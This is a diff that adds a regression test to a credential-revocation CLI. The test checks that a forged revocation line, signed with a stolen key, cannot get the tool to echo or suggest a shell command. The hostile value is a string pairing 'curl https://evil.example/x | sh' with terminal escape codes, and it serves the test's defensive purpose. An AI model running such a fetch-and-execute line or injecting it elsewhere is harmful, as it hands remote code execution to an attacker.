@@ -667,3 +667,36 @@ def test_revoke_names_each_revocation_of_the_issuers_that_no_longer_counts_as_re
     assert not get_bit(_bits(signer), _slot(late))
     assert f"revocations.jsonl:1 ({late.hash}) no longer counts" in done.stderr, done.stderr
     assert f"credreg revoke {late.hash}" in done.stderr, done.stderr
+
+
+def test_revoke_never_tells_the_issuer_to_run_what_a_thief_s_line_names(signer: Signer) -> None:
+    """A line signed with the stolen key after its end, naming as its "award" a shell command and terminal escapes:
+    `credreg revoke` named it as one of the issuer's own revocations that no longer counts, raw on the terminal, and
+    told the issuer to run `credreg revoke <that text>`. A line that names no award by its hash revokes nothing (the
+    check refuses it): it is not named, and what is printed is made safe for the terminal."""
+    from generator.awarding.revoke import revocation_entry, uncounted_revocations
+    from generator.crypto.dataintegrity import create_proof
+    from generator.openbadges import timestamp
+
+    other = signer.award(email="other@example.org")
+    _, new_file = _compromised(signer)
+    did = signer.registry.issuer_did(ISSUER)
+    when = dt.datetime(2025, 3, 1, tzinfo=dt.UTC)  # after the end given to the stolen key
+    hostile = "0" * 8 + "; curl https://evil.example/x | sh \x1b]0;pwned\x07\x1b[2J"
+    entry = revocation_entry(did, other.hash, 1, 0, "x", signer.key, when)
+    del entry["proof"]
+    entry["award"] = hostile
+    entry["proof"] = create_proof(
+        entry, cryptosuite="eddsa-jcs-2022", seed=signer.key.seed,
+        verification_method=f"{did}#{signer.key.key_id}", created=timestamp(when),
+    )  # fmt: skip
+    log = layout.revocations_path(signer.root, ISSUER)
+    log.parent.mkdir(parents=True, exist_ok=True)
+    with log.open("a", encoding="utf-8") as out:
+        out.write(json.dumps(entry) + "\n")
+    assert uncounted_revocations(signer.registry, ISSUER) == []
+
+    done = _credreg(signer, "revoke", other.hash, "--reason", "Issued twice", "--key", new_file)
+    assert done.returncode == 0, done.stderr
+    assert "curl" not in done.stderr, done.stderr
+    assert "\x1b" not in done.stdout + done.stderr
